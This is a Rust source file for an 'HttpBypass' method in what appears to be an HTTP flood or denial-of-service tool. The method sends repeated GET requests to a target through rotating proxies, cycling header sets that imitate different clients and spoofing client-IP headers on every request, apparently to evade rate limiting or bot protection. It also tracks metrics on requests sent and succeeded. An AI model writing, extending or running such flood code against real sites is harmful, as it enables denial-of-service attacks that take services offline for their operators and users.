use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use worker_core::WorkerCtx;
use worker_core::dispatch::LoadMethod;

use crate::headers::bypass_header_set;

fn build_client(ctx: &WorkerCtx) -> reqwest::Client {
    let mut builder = reqwest::Client::builder().timeout(Duration::from_secs(10));
    if let Some(proxy) = ctx.pick_proxy() {
        if let Ok(p) = reqwest::Proxy::all(proxy.as_url()) {
            builder = builder.proxy(p);
        }
    }
    builder.build().unwrap_or_default()
}

/// Same request loop as `HTTP_FLOOD` but cycles a small rotation of
/// header-sets meant to resemble different clients, each re-randomizing its
/// spoofed client-IP headers per request. 100ms pacing between requests.
pub struct HttpBypass;

#[async_trait]
impl LoadMethod for HttpBypass {
    async fn run_unit(&self, ctx: Arc<WorkerCtx>) -> Result<(), String> {
        let client = build_client(&ctx);
        let rotation = AtomicUsize::new(0);

        while ctx.should_continue() {
            let idx = rotation.fetch_add(1, Ordering::Relaxed);
            let mut req = client.get(&ctx.target);
            for (name, value) in bypass_header_set(idx) {
                req = req.header(name, value);
            }

            let result = req.send().await;
            ctx.metrics.events_sent.inc();
            match result {
                Ok(resp) => {
                    ctx.metrics.bytes_sent.inc_by(resp.content_length().unwrap_or(0));
                    ctx.metrics.successes.inc();
                }
                Err(_) => {
                    ctx.metrics.failures.inc();
                }
            }

            tokio::select! {
                _ = ctx.stop.cancelled() => break,
                _ = tokio::time::sleep(Duration::from_millis(100)) => {}
            }
        }
        Ok(())
    }
}
